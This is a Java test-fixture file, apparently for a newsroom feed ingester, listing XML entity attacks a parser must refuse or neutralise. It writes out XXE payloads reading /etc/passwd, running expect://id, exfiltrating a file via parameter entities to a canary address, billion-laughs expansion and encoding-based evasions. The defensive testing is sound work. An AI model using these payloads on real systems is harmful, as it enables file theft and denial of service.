package newsroom.ingest.syndication;

import static newsroom.ingest.feed.FeedRefused.Code.NOT_A_FEED;
import static newsroom.ingest.feed.FeedRefused.Code.XML_DTD;
import static newsroom.ingest.feed.FeedRefused.Code.XML_LIMIT;
import static newsroom.ingest.syndication.Attack.feed;
import static newsroom.ingest.syndication.Attack.neutralised;
import static newsroom.ingest.syndication.Attack.refused;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Documents that make a parser read, fetch or multiply what is not in them. */
final class EntityAttacks {

    private static final String XML = "<?xml version=\"1.0\"?>\n";

    private EntityAttacks() {}

    /** @param canary address that must never be asked */
    static List<Attack> all(String canary, String file) {
        List<Attack> attacks = new ArrayList<>();
        for (String scheme : List.of("ftp", "jar:http", "gopher", "netdoc", "https", "ldap", "dict", "tftp")) {
            attacks.add(
                    refused("an entity over " + scheme, XML_DTD, () -> external("SYSTEM", scheme + "://x.example/a")));
        }
        attacks.addAll(general(canary, file));
        attacks.addAll(multiplied());
        attacks.addAll(parameters(canary, file));
        attacks.addAll(disguised(canary));
        attacks.addAll(fetched(canary));
        return attacks;
    }

    private static List<Attack> general(String canary, String file) {
        return List.of(
                refused("an entity from a file", XML_DTD, () -> external("SYSTEM", file)),
                refused("an entity from the web", XML_DTD, () -> external("SYSTEM", canary)),
                refused("an entity with a public name", XML_DTD, () -> external("PUBLIC \"-//x\"", canary)),
                refused("a php filter", XML_DTD, () -> external("SYSTEM", "php://filter/read=/etc/passwd")),
                refused("a php command", XML_DTD, () -> external("SYSTEM", "expect://id")),
                refused("a device without end", XML_DTD, () -> external("SYSTEM", "file:///dev/zero")),
                refused("a share of Windows", XML_DTD, () -> external("SYSTEM", "\\\\x.example\\share")),
                refused(
                        "an entity in an attribute",
                        XML_DTD,
                        () -> XML + "<!DOCTYPE rss [<!ENTITY a \"2.0\">]><rss version=\"&a;\"/>"),
                refused(
                        "an unparsed entity",
                        XML_DTD,
                        () -> feed(
                                XML + "<!DOCTYPE rss [<!NOTATION n SYSTEM \"" + canary + "\">" + "<!ENTITY a SYSTEM \""
                                        + canary + "\" NDATA n>]>",
                                "a")),
                refused(
                        "XML's own entities told anew",
                        XML_DTD,
                        () -> feed(XML + "<!DOCTYPE rss [<!ENTITY lt \"&#38;#60;script>\">]>", "&lt;")),
                neutralised(
                        "an entity that nobody declared",
                        feed -> "&amp;xxe;".equals(Attack.title(feed)) || "&xxe;".equals(Attack.title(feed)),
                        () -> feed(XML, "&xxe;")));
    }

    private static List<Attack> multiplied() {
        return List.of(
                refused("a million laughs", XML_DTD, () -> laughs(6)),
                refused("a billion laughs", XML_DTD, () -> laughs(9)),
                refused(
                        "quadratic blow-up",
                        XML_DTD,
                        () -> feed(
                                XML + "<!DOCTYPE rss [<!ENTITY a \"" + "ha".repeat(20_000) + "\">]>",
                                "&a;".repeat(20_000))),
                refused(
                        "entities that chase each other",
                        XML_DTD,
                        () -> feed(XML + "<!DOCTYPE rss [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;")),
                refused(
                        "a document type without end",
                        XML_LIMIT,
                        () -> feed(XML + "<!DOCTYPE rss [<!-- --><!ELEMENT a " + "(b)".repeat(400_000) + ">]>", "a")),
                refused(
                        "an entity of a megabyte",
                        XML_LIMIT,
                        () -> feed(XML + "<!DOCTYPE rss [<!ENTITY a \"" + "x".repeat(1_000_000) + "\">]>", "&a;")));
    }

    private static List<Attack> parameters(String canary, String file) {
        return List.of(
                refused("a parameter entity", XML_DTD, () -> type("<!ENTITY % a SYSTEM \"" + canary + "\"> %a;")),
                refused(
                        "a file sent away by parameter entities",
                        XML_DTD,
                        () -> type("<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
                                + canary + "?%f;'>\">%e;%s;")),
                refused(
                        "a file told by an error",
                        XML_DTD,
                        () -> type("<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM "
                                + "'file:///nowhere/%f;'>\">%e;%s;")),
                refused(
                        "a document type of the machine itself, bent",
                        XML_DTD,
                        () -> type("<!ENTITY % l SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\">"
                                + "<!ENTITY % ISOamsa '<!ENTITY x \"y\">'>%l;")),
                refused("an included section", XML_DTD, () -> type("<![INCLUDE[<!ENTITY a \"b\">]]>")),
                refused("an entity in small letters", XML_DTD, () -> type("<!entity a \"b\">")),
                refused(
                        "an entity behind an attribute list",
                        XML_DTD,
                        () -> type("<!ATTLIST rss v CDATA \"x>]\"><!ENTITY a \"b\">")));
    }

    private static List<Attack> disguised(String canary) {
        String entity = external("SYSTEM", canary);
        List<Attack> attacks = new ArrayList<>();
        for (String charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "UTF-32LE", "UTF-32BE")) {
            attacks.add(refused("an entity in " + charset, XML_DTD, Charset.forName(charset), () -> entity));
        }
        attacks.add(refused("an entity behind a byte order mark", XML_DTD, () -> "\uFEFF" + entity));
        attacks.add(refused("an entity behind junk", XML_DTD, () -> "Warning: <b>x</b>\n" + entity));
        attacks.add(refused("an entity behind a comment", XML_DTD, () -> "<!-- <rss> -->" + entity));
        attacks.add(refused(
                "an entity in UTF-7",
                NOT_A_FEED,
                () -> "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"
                        + "+ADwAIQ-DOCTYPE rss+AFsAPAAh-ENTITY a SYSTEM +ACI-x+ACIAPgBdAD4-"));
        attacks.add(refused("an entity in EBCDIC", NOT_A_FEED, Charset.forName("IBM037"), () -> entity));
        attacks.add(refused("an entity over NULs", XML_DTD, () -> entity.replace("ENTITY", "ENT\0ITY")));
        attacks.add(refused("a document type and no document", NOT_A_FEED, () -> XML + "<!DOCTYPE rss SYSTEM \"x\">"));
        attacks.add(refused("two document types", XML_DTD, () -> "<!DOCTYPE rss>" + entity));
        attacks.add(refused("an entity in Latin-1", XML_DTD, StandardCharsets.ISO_8859_1, () -> entity + "\u00E9"));
        return attacks;
    }

    private static List<Attack> fetched(String canary) {
        return List.of(
                neutralised(
                        "a document type elsewhere",
                        EntityAttacks::isWhole,
                        () -> feed(XML + "<!DOCTYPE rss SYSTEM \"" + canary + "\">", "Ferry")),
                neutralised(
                        "Netscape's document type",
                        EntityAttacks::isWhole,
                        () -> feed(
                                XML + "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \""
                                        + canary + "\">",
                                "Ferry")),
                neutralised(
                        "a document type within the document",
                        EntityAttacks::isWhole,
                        () -> feed(XML, "Ferry")
                                .replace("<item>", "<!DOCTYPE rss [<!ENTITY a SYSTEM \"" + canary + "\">]><item>")),
                neutralised(
                        "a style sheet",
                        EntityAttacks::isWhole,
                        () -> feed(XML + "<?xml-stylesheet type=\"text/xsl\" href=\"" + canary + "\"?>", "Ferry")),
                neutralised(
                        "an inclusion",
                        EntityAttacks::isWhole,
                        () -> feed(XML, "Ferry")
                                .replace(
                                        "<item>",
                                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + canary
                                                + "\" parse=\"text\"/><item>")),
                neutralised(
                        "a schema elsewhere",
                        EntityAttacks::isWhole,
                        () -> feed(XML, "Ferry")
                                .replace(
                                        "version=",
                                        "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                                                + "xsi:noNamespaceSchemaLocation=\"" + canary + "\" version=")));
    }

    private static boolean isWhole(newsroom.ingest.feed.FeedDocument feed) {
        return "Ferry".equals(Attack.title(feed));
    }

    private static String external(String kind, String address) {
        return feed(XML + "<!DOCTYPE rss [<!ENTITY a " + kind + " \"" + address + "\">]>\n", "&a;");
    }

    private static String type(String subset) {
        return feed(XML + "<!DOCTYPE rss [" + subset + "]>\n", "a");
    }

    static String laughs(int tens) {
        StringBuilder type = new StringBuilder(XML + "<!DOCTYPE rss [<!ENTITY l0 \"ha\">");
        for (int i = 1; i <= tens; i++) {
            type.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return feed(type + "]>\n", "&l" + tens + ";");
    }
}
